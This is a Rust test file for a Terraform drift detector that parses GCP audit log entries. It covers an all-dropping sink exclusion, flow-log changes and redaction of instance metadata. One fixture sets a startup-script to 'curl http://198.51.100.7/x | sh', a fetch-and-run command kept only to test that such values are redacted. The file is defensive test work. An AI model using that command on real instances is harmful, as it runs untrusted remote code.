//! Which Terraform attributes a GCP call sets, through the C ABI on the `gcp_auditlog` source: real Cloud Audit
//! Logs entries against a state written to hold the resource they name. The expected attributes follow the
//! APIs' documented behaviour: `UpdateSink` changes only what its `updateMask` names; `subnetworks.patch`'s
//! body is the subnetwork (`logConfig` is the provider's `log_config`); `setMetadata` replaces the instance's
//! metadata items, which the provider holds as the `metadata` map, a secret.

use tfdrift_test_support as common;

use common::*;
use serde_json::{Value, json};

const FIELDS: &[&str] = &[
    "tfdrift.drift",
    "tfdrift.managed",
    "tfdrift.changed_attrs",
    "tfdrift.diff",
    "tfdrift.summary",
];

fn run(entries: &[Value], resources: Vec<Value>) -> Vec<Fields> {
    let dir = tempfile::tempdir().unwrap();
    let path = write_state(dir.path(), "gcp.tfstate", &state_v4(1, resources));
    let texts: Vec<String> = entries.iter().map(Value::to_string).collect();
    run_gcp(&texts, &config(&[("gcp", &path)], json!({})), FIELDS)
}

fn sink(exclusions: Value) -> Value {
    resource(
        "",
        "google_logging_project_sink",
        "audit",
        json!({"id": "projects/test-project-123456/sinks/test-1", "name": "test-1",
               "project": "test-project-123456", "description": "test", "filter": "", "disabled": false,
               "destination": "logging.googleapis.com/projects/test-project-123456/locations/global/buckets/testloggingbucket",
               "exclusions": exclusions, "unique_writer_identity": true}),
    )
}

/// panther-analysis 37 (from 0): someone adds an exclusion `filter: "*"` to a sink, which drops every entry
/// the sink would route. Only `exclusions` is in the mask.
#[test]
fn an_exclusion_added_to_a_managed_sink_is_drift_on_exclusions() {
    let update = gcp_real_entry("panther-analysis", 37);
    assert_eq!(
        update["protoPayload"]["methodName"],
        "google.logging.v2.ConfigServiceV2.UpdateSink"
    );
    let fields = run(std::slice::from_ref(&update), vec![sink(json!([]))]);
    let fields = &fields[0];
    assert_eq!(fields.bool("tfdrift.managed"), Some(true));
    assert_eq!(fields.bool("tfdrift.drift"), Some(true));
    assert_eq!(fields.list("tfdrift.changed_attrs"), ["exclusions"]);
    let diff: Value = serde_json::from_str(&fields.str("tfdrift.diff").expect("a diff")).unwrap();
    assert_eq!(
        diff["exclusions"]["requested"],
        json!([{"filter": "*", "name": "excludeall"}])
    );
    assert_eq!(diff["exclusions"]["state"], json!([]));
    assert!(
        fields
            .str("tfdrift.summary")
            .is_some_and(|s| s.starts_with("exclusions")),
        "{:?}",
        fields.str("tfdrift.summary")
    );

    // The state already holds that exclusion (the provider writes every member of the block): no change.
    let held = json!([{"name": "excludeall", "filter": "*", "description": "", "disabled": false}]);
    let fields = run(&[update], vec![sink(held)]);
    assert_eq!(fields[0].bool("tfdrift.drift"), Some(false));
    assert!(fields[0].list("tfdrift.changed_attrs").is_empty());
}

/// panther-analysis 2: `compute.subnetworks.patch` turning VPC flow logs on where the state has none.
#[test]
fn flow_logs_turned_on_for_a_managed_subnetwork_are_drift_on_log_config() {
    let patch = gcp_real_entry("panther-analysis", 2);
    assert_eq!(
        patch["protoPayload"]["methodName"],
        "v1.compute.subnetworks.patch"
    );
    let subnetwork = resource(
        "",
        "google_compute_subnetwork",
        "default",
        json!({"id": "projects/test-project/regions/us-central1/subnetworks/default", "name": "default",
               "project": "test-project", "region": "us-central1", "ip_cidr_range": "10.128.0.0/20",
               "log_config": []}),
    );
    let fields = run(&[patch], vec![subnetwork]);
    assert_eq!(fields[0].bool("tfdrift.drift"), Some(true));
    assert_eq!(fields[0].list("tfdrift.changed_attrs"), ["log_config"]);
    let diff: Value = serde_json::from_str(&fields[0].str("tfdrift.diff").unwrap()).unwrap();
    assert_eq!(diff["log_config"]["requested"], json!({"enable": true}));
}

/// panther-analysis 12: `compute.instances.setMetadata`, whose request Compute logs without the items; the
/// same call with items (the API's `Metadata` body: `fingerprint`, `items: [{key, value}]`) names `metadata`,
/// and its values never show.
#[test]
fn metadata_set_on_a_managed_instance_is_drift_and_its_values_are_redacted() {
    let logged = gcp_real_entry("panther-analysis", 12);
    assert_eq!(
        logged["protoPayload"]["methodName"],
        "v1.compute.instances.setMetadata"
    );
    let mut with_items = logged.clone();
    with_items["protoPayload"]["request"] = json!({
        "@type": "type.googleapis.com/compute.instances.setMetadata",
        "fingerprint": "abc=",
        "items": [{"key": "startup-script", "value": "curl http://198.51.100.7/x | sh"}]
    });
    let vm = resource(
        "",
        "google_compute_instance",
        "vm",
        json!({"id": "projects/example-project/zones/us-central1-f/instances/example-instance",
               "name": "example-instance", "project": "example-project", "zone": "us-central1-f",
               "machine_type": "e2-small", "metadata": {"enable-oslogin": "TRUE"}}),
    );
    let fields = run(&[logged, with_items], vec![vm]);
    // Nothing logged to compare: a change of the instance, no attribute named.
    assert_eq!(fields[0].bool("tfdrift.drift"), Some(true));
    assert!(fields[0].list("tfdrift.changed_attrs").is_empty());
    assert_eq!(fields[1].bool("tfdrift.drift"), Some(true));
    assert_eq!(fields[1].list("tfdrift.changed_attrs"), ["metadata"]);
    let diff = fields[1].str("tfdrift.diff").expect("a diff");
    let summary = fields[1].str("tfdrift.summary").expect("a summary");
    for text in [&diff, &summary] {
        assert!(
            !text.contains("198.51.100.7") && !text.contains("oslogin"),
            "{text}"
        );
        assert!(text.contains("<redacted>"), "{text}");
    }
}
